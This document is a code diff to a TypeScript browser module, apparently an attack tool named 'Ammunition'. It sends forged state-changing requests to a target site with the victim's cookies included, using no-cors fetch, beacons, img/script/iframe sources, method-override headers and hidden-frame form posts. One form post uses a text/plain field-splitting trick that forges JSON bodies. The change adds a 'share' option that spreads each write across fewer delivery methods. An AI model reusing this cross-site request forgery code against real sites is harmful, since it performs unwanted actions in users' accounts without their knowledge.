@@ -12,10 +12,12 @@ export interface Write {
 interface Ammunition {
   url: string;
   writes: Write[];
+  /** Each write is sent in one of so many ways, the next write in the next ones; 1 is in all. */
+  share: number;
 }
 
 /** Sends each write with fetch, beacons, as a GET and as the source of an element, in several content types. */
-export async function sendRequests({ url, writes }: Ammunition): Promise<void> {
+export async function sendRequests({ url, writes, share }: Ammunition): Promise<void> {
   const bodiesOf = (json: string): BodyInit[] => {
     const form = new FormData();
     form.set("0", json);
@@ -24,7 +26,8 @@ export async function sendRequests({ url, writes }: Ammunition): Promise<void> {
     return [json, new URLSearchParams({ input: json }), form, ...types.map((type) => new Blob([json], { type }))];
   };
   const simple: RequestInit = { mode: "no-cors", credentials: "include", redirect: "manual" };
-  for (const { path, input } of writes) {
+  for (const [place, { path, input }] of writes.entries()) {
+    const isDue = (_: unknown, way: number) => (place + way) % share === 0;
     const one = JSON.stringify(input ?? null);
     const batch = JSON.stringify({ 0: input ?? null });
     const ask = path.includes("?") ? "&" : "?";
@@ -44,12 +47,12 @@ export async function sendRequests({ url, writes }: Ammunition): Promise<void> {
       [alone, { ...post, method: "PUT" }],
       [query, { credentials: "include", headers: { "x-http-method-override": "POST", "x-method-override": "POST" } }],
     ];
-    await Promise.all(requests.map(([address, init]) => fetch(address, init).catch(() => null)));
-    for (const type of ["", "text/plain", "application/octet-stream", "application/json"]) {
+    await Promise.all(requests.filter(isDue).map(([address, init]) => fetch(address, init).catch(() => null)));
+    for (const type of ["", "text/plain", "application/octet-stream", "application/json"].filter(isDue)) {
       navigator.sendBeacon(alone, new Blob([one], { type }));
     }
     await Promise.all(
-      (["img", "script", "iframe"] as const).map((tag) => {
+      (["img", "script", "iframe"] as const).filter(isDue).map((tag) => {
         const element = document.createElement(tag);
         element.src = query;
         const done = new Promise((resolve) => {
@@ -64,7 +67,7 @@ export async function sendRequests({ url, writes }: Ammunition): Promise<void> {
 }
 
 /** Submits a form for each write in each encoding, into frames. */
-export async function sendForms({ url, writes }: Ammunition): Promise<void> {
+export async function sendForms({ url, writes, share }: Ammunition): Promise<void> {
   const submit = (action: string, method: string, enctype: string, [name, value]: [string, string]) =>
     new Promise<void>((resolve) => {
       const frame = document.createElement("iframe");
@@ -84,16 +87,18 @@ export async function sendForms({ url, writes }: Ammunition): Promise<void> {
       };
       frame.src = "data:text/html,";
     });
-  for (const { path, input } of writes) {
+  for (const [place, { path, input }] of writes.entries()) {
+    const isDue = (_: unknown, way: number) => (place + way) % share === 0;
     const json = JSON.stringify(input ?? {});
     // As text, a field is `name=value`: the equals sign becomes part of a string.
     const split: [string, string] = [`${json.slice(0, -1)}${json === "{}" ? "" : ","}"x":"`, '"}'];
     const whole: [string, string] = ["input", json];
-    await Promise.all([
-      submit(url + path, "post", "text/plain", split),
-      submit(url + path, "post", "application/x-www-form-urlencoded", whole),
-      submit(url + path, "post", "multipart/form-data", whole),
-    ]);
+    const forms: [string, [string, string]][] = [
+      ["text/plain", split],
+      ["application/x-www-form-urlencoded", whole],
+      ["multipart/form-data", whole],
+    ];
+    await Promise.all(forms.filter(isDue).map(([encoding, field]) => submit(url + path, "post", encoding, field)));
   }
 }
 
